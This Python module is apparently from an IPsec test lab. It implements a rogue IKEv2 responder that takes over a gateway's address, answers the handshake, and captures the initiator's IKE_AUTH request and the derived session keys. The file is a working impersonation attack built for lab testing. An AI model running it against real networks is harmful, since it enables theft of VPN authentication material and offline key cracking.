"""A rogue IKEv2 responder, run inside mallory's namespace (never in the machine's own).

    python -m ipseclab.attacks.rogue_responder SWANCTL ADDRESS SECONDS

It takes over ADDRESS (another node's address, gw2's) by adding it to mallory's loopback
device: packets the on-path router would have forwarded to that address are delivered to
mallory itself. An :class:`ipseclab.ike.engine.IkeEngine` with the connections of SWANCTL
answers IKE_SA_INIT on UDP 500, so the initiator derives the IKE SA's keys with mallory and
sends its IKE_AUTH request, encrypted for mallory. The engine then refuses that AUTH (it
does not know the PSK) and answers AUTHENTICATION_FAILED. The tool prints ``ready``, and
when IKE_AUTH has arrived (or SECONDS passed) one JSON line: the IKE_SA_INIT messages, the
IKE_AUTH request and the IKE SA's SK_* keys. The address is removed again at the end.
"""

from __future__ import annotations

import select
import socket
import subprocess
import time

from ipseclab.attacks._tool import fail, ready, run, serve
from ipseclab.ike.constants import ExchangeType
from ipseclab.ike.message import parse_message


def respond(swanctl: str, address: str, seconds: float) -> None:
    from ipseclab.drivers.ike_gateway import IkeGateway

    engine = IkeGateway.from_swanctl(swanctl).engine
    engine.cookie_threshold = None
    subprocess.run(["ip", "addr", "add", f"{address}/32", "dev", "lo"], check=True)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    start = time.monotonic()
    try:
        sock.bind((address, 500))

        def work(result: dict) -> None:
            ready()
            while time.monotonic() < start + seconds and "auth_request" not in result:
                left = start + seconds - time.monotonic()
                if not select.select([sock], [], [], max(0.0, left))[0]:
                    break
                data, src = sock.recvfrom(65535)
                message = parse_message(data)
                now = time.monotonic()
                if message.exchange_type == ExchangeType.IKE_SA_INIT and not message.is_response:
                    result["init_request"] = data.hex()
                if message.exchange_type == ExchangeType.IKE_AUTH and not message.is_response:
                    # the keys before the engine refuses the AUTH and forgets the SA
                    sa = engine._sas.get(message.spi_r)
                    if sa is not None and getattr(sa, "keys", None) is not None:
                        result["auth_request"] = data.hex()
                        result["keys"] = {k: getattr(sa.keys, k).hex() for k in
                                          ("SK_d", "SK_ai", "SK_ar", "SK_ei", "SK_er", "SK_pi",
                                           "SK_pr")}
                engine.receive_datagram(data, src, (address, 500), now)
                for out, _, dst in engine.datagrams_to_send():
                    if parse_message(out).exchange_type == ExchangeType.IKE_SA_INIT:
                        result["init_response"] = out.hex()
                    sock.sendto(out, dst)
            events = []
            while (ev := engine.next_event()) is not None:
                events.append(type(ev).__name__)
            result["events"] = events

        serve(work, start)
    finally:
        sock.close()
        subprocess.run(["ip", "addr", "del", f"{address}/32", "dev", "lo"], check=False)


def main(argv: list[str]) -> None:
    if len(argv) != 3:
        fail(__doc__ or "")
    respond(argv[0], argv[1], float(argv[2]))


if __name__ == "__main__":
    run(main, __doc__ or "")
